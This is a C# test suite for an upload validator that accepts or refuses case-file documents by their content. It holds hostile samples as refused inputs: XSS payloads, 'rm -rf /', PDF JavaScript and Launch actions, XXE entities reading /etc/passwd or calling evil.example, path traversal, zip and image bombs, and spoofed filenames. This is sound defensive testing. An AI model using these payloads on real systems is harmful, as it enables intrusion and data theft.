using System.Text;
using Disclosure.Domain.Applications;
using Disclosure.Domain.Law;
using Disclosure.Web.Files;

namespace Disclosure.Web.Tests.Files;

/// <summary>What is let into the file of a case, by its content and not by its name; and each thing that is not.</summary>
public sealed class FileCheckTests
{
    private static readonly byte[] OldOffice = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[512]];

    public static TheoryData<string, FileFormat> Taken => new()
    {
        { "登记表.pdf", FileFormat.Pdf }, { "packed.pdf", FileFormat.Pdf }, { "检索记录.docx", FileFormat.Docx }, { "link.docx", FileFormat.Docx }, { "chart.docx", FileFormat.Docx },
        { "清单.xlsx", FileFormat.Xlsx }, { "汇报.pptx", FileFormat.Pptx }, { "答复.ofd", FileFormat.Ofd }, { "身份证.PNG", FileFormat.Png }, { "身份证.jpeg", FileFormat.Jpeg },
        { "回执.tif", FileFormat.Tiff }, { "说明.txt", FileFormat.Text }, { "gb.txt", FileFormat.Text }, { "utf16.txt", FileFormat.Text },
    };

    [Theory]
    [MemberData(nameof(Taken))]
    public void A_plain_file_is_taken(string name, FileFormat format) => Assert.Equal(format, FileCheck.Demand(new MemoryStream(Harmless(name)), name));

    [Theory]
    [InlineData("a.exe"), InlineData("a.svg"), InlineData("a.html"), InlineData("a.zip"), InlineData("a.docm"), InlineData("a.doc"), InlineData("a.wps"), InlineData("a"), InlineData("a.pdf.lnk")]
    public void A_name_that_promises_nothing_we_take_is_refused(string name) => Refused(FileRule.FileFormatNotAllowed, Made.Text(), name);

    [Fact]
    public void A_program_is_refused_under_any_name()
    {
        byte[] windows = [(byte)'M', (byte)'Z', 0x90, 0, 3, 0, 0, 0, .. new byte[200]], linux = [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, .. new byte[200]];

        Assert.All(["a.pdf", "a.docx", "a.png", "a.txt"], name => Refused(FileRule.FileFormatNotAllowed, windows, name));
        Refused(FileRule.FileFormatNotAllowed, linux, "a.txt");
    }

    [Theory]
    [InlineData("<!DOCTYPE html><html><body>x</body></html>"), InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"), InlineData("说明\n<script>alert(1)</script>"),
     InlineData("<?xml version=\"1.0\"?><x/>"), InlineData("{\\rtf1 \\object}"), InlineData("#!/bin/sh\nrm -rf /"), InlineData("%!PS-Adobe"), InlineData("<IMG src=x onerror=alert(1)>")]
    public void Markup_and_scripts_are_no_plain_text(string content)
    {
        Refused(FileRule.FileFormatNotAllowed, Made.Text(content), "a.txt");
        Refused(FileRule.FileFormatNotAllowed, Made.Text(content), "a.png");
    }

    [Fact]
    public void Content_and_name_must_agree()
    {
        var refused = Refused(FileRule.FileIsNotWhatItsNameSays, Made.Docx(), "a.pdf");
        Assert.Equal([(object)"a.pdf", FileFormat.Docx], refused.Arguments);
        Refused(FileRule.FileIsNotWhatItsNameSays, Made.Pdf(), "a.docx");
        Refused(FileRule.FileIsNotWhatItsNameSays, Made.Text(), "a.jpg");
    }

    [Fact]
    public void Old_binary_office_files_are_refused_and_protected_ones_named_as_such()
    {
        Refused(FileRule.FileFormatNotAllowed, OldOffice, "a.docx");
        Refused(FileRule.FileEncrypted, [.. OldOffice, .. Encoding.Unicode.GetBytes("EncryptedPackage")], "a.docx");
    }

    [Theory]
    [InlineData("word/vbaProject.bin", "x"), InlineData("word/activeX/activeX1.xml", "<x/>")]
    public void Macros_are_refused_by_their_part(string path, string content) => Refused(FileRule.FileHasMacros, Made.Docx((path, Made.Text(content))), "a.docx");

    [Fact]
    public void Macros_are_refused_by_their_type_and_relation()
    {
        Refused(FileRule.FileHasMacros, Made.Package("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"), "a.docx");
        Refused(FileRule.FileHasMacros, Made.Package("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"), "a.xlsx");
        Refused(FileRule.FileHasMacros, Made.Docx(("word/_rels/document.xml.rels", Made.Rels("control", "control1.xml", null))), "a.docx");
    }

    [Fact]
    public void A_part_of_xml_under_another_name_is_refused() => Refused(FileRule.FileDamaged, Made.Package("word/document.bin", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"), "a.docx");

    [Fact]
    public void A_mail_merge_is_refused() => Refused(FileRule.FileLoadsFromElsewhere,
        Made.Docx(("word/settings.xml", Made.Text("<w:settings xmlns:w=\"x\"><w:mailMerge/></w:settings>"))), "a.docx");

    [Theory]
    [InlineData("attachedTemplate", "http://evil.example/t.dotm", "External"), InlineData("attachedTemplate", "file:///c:/t.dotx", "External"), InlineData("image", "http://evil.example/p.png", "External"),
     InlineData("externalLink", "externalLinks/externalLink1.xml", null), InlineData("hyperlink", "file://server/share", "External"), InlineData("hyperlink", "ms-word:ofe|u|x", "External"),
     InlineData("hyperlink", "javascript:alert(1)", "External"), InlineData("connections", "connections.xml", null), InlineData("frame", "\\\\server\\x", "External")]
    public void What_loads_from_elsewhere_is_refused(string type, string target, string? mode) =>
        Refused(FileRule.FileLoadsFromElsewhere, Made.Docx(("word/_rels/document.xml.rels", Made.Rels(type, target, mode))), "a.docx");

    [Theory]
    [InlineData("<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\x</w:instrText></w:r></w:p>"), InlineData("<w:fldSimple w:instr=\"INCLUDEPICTURE http://evil.example/x\"/>")]
    public void Fields_that_load_are_refused_however_they_are_cut(string body) => Refused(
        FileRule.FileLoadsFromElsewhere, Made.Docx(("word/header1.xml", Made.Text($"<w:hdr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">{body}</w:hdr>"))), "a.docx");

    [Fact]
    public void Embedded_objects_are_refused()
    {
        Refused(FileRule.FileHasEmbeddedObject, Made.Docx(("word/embeddings/oleObject1.bin", OldOffice)), "a.docx");
        Refused(FileRule.FileHasEmbeddedObject, Made.Docx(("word/embeddings/x.bin", Made.Text("anything"))), "a.docx");
        Refused(FileRule.FileHasEmbeddedObject, Made.Docx(("word/media/image1.png", [(byte)'M', (byte)'Z', 0, 0])), "a.docx");
        Refused(FileRule.FileHasEmbeddedObject, Made.Docx(("word/_rels/document.xml.rels", Made.Rels("oleObject", "embeddings/o.bin", null))), "a.docx");
        Refused(FileRule.FileHasEmbeddedObject, Made.Docx(("word/_rels/document.xml.rels", Made.Rels("aFChunk", "chunk.html", null))), "a.docx");
        Refused(FileRule.FileHasEmbeddedObject, Made.Ofd(("Doc_0/Attachs/a.xml", Made.Text("<ofd:Attachments xmlns:ofd=\"http://www.ofdspec.org/2016\"><ofd:Attachment/></ofd:Attachments>"))), "a.ofd");
        Refused(FileRule.FileHasEmbeddedObject, Made.Ofd(("Doc_0/x.docx", Made.Docx())), "a.ofd");
    }

    [Theory]
    [InlineData("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), InlineData("<< /S /J#61vaScript /JS (x) >>"), InlineData("<< /S /Launch /F (cmd.exe) >>"), InlineData("<< /Type /EmbeddedFile >>"),
     InlineData("<< /Names << /EmbeddedFiles 7 0 R >> >>"), InlineData("<< /Subtype /FileAttachment >>"), InlineData("<< /AcroForm << /XFA [] >> >>"), InlineData("<< /S /SubmitForm >>"), InlineData("<< /Subtype /RichMedia >>")]
    public void An_active_pdf_is_refused_in_the_open_and_in_packed_objects(string action)
    {
        Refused(FileRule.FilePdfIsActive, Made.Pdf($"4 0 obj\n{action}\nendobj"), "a.pdf");
        Refused(FileRule.FilePdfIsActive, Made.PdfWithPacked($"6 0 {action}"), "a.pdf");
    }

    [Fact]
    public void A_pdf_whose_objects_cannot_be_read_is_refused()
    {
        Refused(FileRule.FilePdfIsActive, Made.PdfWithPacked("6 0 << >>", "[/ASCII85Decode /FlateDecode]"), "a.pdf");
        Refused(FileRule.FileEncrypted, Made.Pdf("4 0 obj\n<< /Encrypt 9 0 R >>\nendobj"), "a.pdf");
        Refused(FileRule.FileDamaged, Made.Pdf()[..60], "a.pdf");
        Refused(FileRule.FileExpandsTooMuch, Made.PdfWithPacked(new string(' ', 4_000_000)), "a.pdf");
    }

    [Fact]
    public void A_bomb_is_refused_by_what_it_unpacks_to()
    {
        Refused(FileRule.FileExpandsTooMuch, Made.Docx(("word/media/zeros.emf", new byte[2_000_000])), "a.docx");
        var parts = Enumerable.Range(0, 3).Select(i => ($"word/media/{i}.emf", Noise(70_000_000))).ToArray();
        Refused(FileRule.FileExpandsTooMuch, Made.Docx(parts), "a.docx"); // 210 MB that do not pack at all
    }

    [Fact]
    public void Packages_are_followed_three_deep_and_no_deeper()
    {
        var third = Made.Docx();
        var second = Made.Docx(("word/embeddings/c.docx", third));
        Assert.Equal(FileFormat.Docx, FileCheck.Demand(new MemoryStream(Made.Docx(("word/embeddings/b.docx", second))), "a.docx"));
        Refused(FileRule.FileNestedTooDeep, Made.Docx(("word/embeddings/a.docx", Made.Docx(("word/embeddings/b.docx", second)))), "a.docx");
        Refused(FileRule.FileHasMacros, Made.Docx(("word/embeddings/b.docx", Made.Docx(("word/vbaProject.bin", Made.Text("x"))))), "a.docx");
    }

    [Theory]
    [InlineData("../../etc/passwd"), InlineData("/etc/passwd"), InlineData("word\\..\\x.xml"), InlineData("c:/x.xml"), InlineData("word/../../x.xml"), InlineData("word/\u0007.xml")]
    public void An_entry_that_points_outside_is_refused(string path) => Refused(FileRule.FilePathEscapes, Made.Docx((path, Made.Text("<x/>"))), "a.docx");

    [Theory]
    [InlineData("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"), InlineData("<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\"><x/>"),
     InlineData("<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;\">]><x>&b;</x>"), InlineData("<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/x\"> %p;]><x/>")]
    public void Entities_and_document_types_are_refused(string xml) => Refused(FileRule.FileXmlUnsafe, Made.Docx(("word/styles.xml", Made.Text(xml))), "a.docx");

    [Fact]
    public void An_image_bomb_is_refused_before_anybody_draws_it()
    {
        Refused(FileRule.FileImageTooLarge, Made.Png(100_000, 100_000), "a.png");
        Refused(FileRule.FileImageTooLarge, Made.Jpeg(65_000, 65_000), "a.jpg");
        Refused(FileRule.FileImageTooLarge, Made.Tiff(65_000, 65_000), "a.tif");
        Refused(FileRule.FileDamaged, Made.Tiff(next: 8), "a.tif"); // pages in a circle
    }

    [Fact]
    public void A_damaged_file_is_refused()
    {
        Refused(FileRule.FileDamaged, Made.Png()[..20], "a.png");
        Refused(FileRule.FileDamaged, Made.Png(after: Made.Text("<script>")), "a.png"); // something hides behind the image
        Refused(FileRule.FileDamaged, Made.Jpeg()[..8], "a.jpg");
        Refused(FileRule.FileDamaged, Made.Docx()[..200], "a.docx");
        Refused(FileRule.FileDamaged, Made.Docx(("word/styles.xml", Made.Text("<x>"))), "a.docx");
        Refused(FileRule.FileDamaged, Made.Docx(("word/document.xml", Made.Text("<x/>"))), "a.docx"); // twice under one name
        Refused(FileRule.FileFormatNotAllowed, Made.Zip([("readme.txt", Made.Text())]), "a.docx");
    }

    [Fact]
    public void An_empty_file_is_refused() => Refused(FileRule.FileEmpty, [], "a.txt");

    [Theory]
    [InlineData(""), InlineData(" .pdf"), InlineData("a\u202Efdp.pdf"), InlineData("a\u0000.pdf"), InlineData("a\n.pdf"), InlineData("..\\a.pdf"), InlineData("../a.pdf"), InlineData("c:a.pdf"),
     InlineData("a\u200B.pdf"), InlineData("a\uFEFF.pdf"), InlineData("a.pdf."), InlineData("a\u2066.pdf"), InlineData("<b>.pdf"), InlineData("a\uD800.pdf"), InlineData("a\u2028.pdf")]
    public void A_name_with_hidden_or_path_characters_is_unfit(string name) => Refused(FileRule.FileNameUnfit, Made.Pdf(), name);

    [Fact]
    public void A_name_is_no_longer_than_its_column()
    {
        Refused(FileRule.FileNameUnfit, Made.Pdf(), new string('长', Attachment.MaxName - 3) + ".pdf");
        Assert.Equal(FileFormat.Pdf, FileCheck.Demand(new MemoryStream(Made.Pdf()), new string('长', Attachment.MaxName - 4) + ".pdf"));
    }

    [Fact]
    public void A_rare_character_in_a_name_is_none_of_these() => Assert.Equal(FileFormat.Pdf, FileCheck.Demand(new MemoryStream(Made.Pdf()), "𠮷某（2026）“回执”&'1'.pdf"));

    private static byte[] Harmless(string name) => name switch
    {
        "packed.pdf" => Made.PdfWithPacked("6 0 << /Type /Annot /A << /S /URI >> >>"),
        "link.docx" => Made.Docx(("word/_rels/document.xml.rels", Made.Rels("hyperlink", "https://www.gov.cn/"))),
        "chart.docx" => Made.Docx(("word/embeddings/Microsoft_Excel_Sheet.xlsx", Made.Package("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"))),
        "gb.txt" => Encoding.GetEncoding("gb18030").GetBytes("送达回证"),
        "utf16.txt" => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("送达回证\r\n")],
        _ => Path.GetExtension(name).ToUpperInvariant() switch
        {
            ".PDF" => Made.Pdf(),
            ".DOCX" => Made.Docx(),
            ".XLSX" => Made.Package("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
            ".PPTX" => Made.Package("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
            ".OFD" => Made.Ofd(("Doc_0/Document.xml", Made.Text("<ofd:Document xmlns:ofd=\"http://www.ofdspec.org/2016\"/>"))),
            ".PNG" => Made.Png(),
            ".JPEG" => Made.Jpeg(),
            ".TIF" => Made.Tiff(),
            _ => Made.Text(),
        },
    };

    private static byte[] Noise(int length)
    {
        var bytes = new byte[length];
        new Random(length).NextBytes(bytes);
        bytes[0] = 1;
        return bytes;
    }

    private static RuleViolationException Refused(Enum rule, byte[] content, string name)
    {
        var refused = Assert.Throws<RuleViolationException>(() => FileCheck.Demand(new MemoryStream(content), name));
        Assert.Equal(rule, refused.Rule);
        return refused;
    }

    static FileCheckTests() => Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
}
